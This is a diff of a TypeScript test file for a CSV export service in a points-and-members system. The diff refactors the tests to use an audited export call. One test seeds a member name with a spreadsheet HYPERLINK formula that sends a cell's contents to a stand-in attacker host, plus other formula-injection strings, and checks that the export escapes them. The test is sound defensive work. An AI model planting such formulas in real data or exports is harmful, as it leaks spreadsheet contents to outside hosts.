@@ -2,11 +2,17 @@ import { sql } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
 import { createMember } from '../../../test/factories.js';
 import { useTestDatabase } from '../../../test/helper.js';
+import { TERMINAL_ACTOR } from '../audit/audit-service.js';
 import { earnPoints, spendPoints } from '../points/point-service.js';
-import { ledgerRangeOf, openExport } from './export-service.js';
+import { type ExportRequest, ledgerRangeOf, startExport } from './export-service.js';
 
 const context = useTestDatabase();
 const LATER = new Date('2031-12-31T16:59:59Z');
+
+/** The export's CSV stream as an operator's download gets it (startExport records the audit row first). */
+async function exportCsv(request: ExportRequest) {
+  return (await startExport(context.database, TERMINAL_ACTOR, request)).body;
+}
 
 async function readAll(stream: NodeJS.ReadableStream): Promise<string> {
   const chunks: Buffer[] = [];
@@ -16,11 +22,11 @@ async function readAll(stream: NodeJS.ReadableStream): Promise<string> {
 
 describe('CSV exports', () => {
   it('writes members as UTF-8 CSV with a byte-order mark, Thai names and balances', async () => {
-    const { orm, pool } = context.database;
+    const { orm } = context.database;
     const member = await createMember(orm, { firstName: 'สมชาย', lastName: 'ใจดี, "ตัวจริง"' });
     await earnPoints(orm, { memberId: member.id, amount: 75, source: 'code', reason: 'c', expiresAt: LATER });
 
-    const csv = await readAll(await openExport(pool, { kind: 'members', filters: {} }));
+    const csv = await readAll(await exportCsv({ kind: 'members', filters: {} }));
 
     expect(
       csv.startsWith(
@@ -34,7 +40,7 @@ describe('CSV exports', () => {
   });
 
   it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
-    const { orm, pool } = context.database;
+    const { orm } = context.database;
     const member = await createMember(orm, {
       firstName: '=HYPERLINK("http://evil.example/?x="&E2,"Click")',
       lastName: '@SUM(1+1)',
@@ -42,8 +48,8 @@ describe('CSV exports', () => {
     await earnPoints(orm, { memberId: member.id, amount: 20, source: 'code', reason: '+cmd', expiresAt: LATER });
     await spendPoints(orm, { memberId: member.id, amount: 5, source: 'redemption', reason: '-2+3' });
 
-    const members = await readAll(await openExport(pool, { kind: 'members', filters: {} }));
-    const ledger = await readAll(await openExport(pool, { kind: 'ledger', filters: {} }));
+    const members = await readAll(await exportCsv({ kind: 'members', filters: {} }));
+    const ledger = await readAll(await exportCsv({ kind: 'ledger', filters: {} }));
 
     const line = members.split('\n').find((row) => row.startsWith(member.mbkMemberId));
     expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&E2,""Click"")",'@SUM(1+1),`);
@@ -68,7 +74,7 @@ describe('CSV exports', () => {
     const { orm, pool } = context.database;
     await orm.execute(sql`insert into members (login_type, email, first_name, last_name)
       select 1, 'bulk-' || n || '@example.com', 'Bulk', 'Member ' || n from generate_series(1, 20000) as n`);
-    const csv = await openExport(pool, { kind: 'members', filters: {} });
+    const csv = await exportCsv({ kind: 'members', filters: {} });
     const iterator = csv[Symbol.asyncIterator]();
 
     const first = await iterator.next();
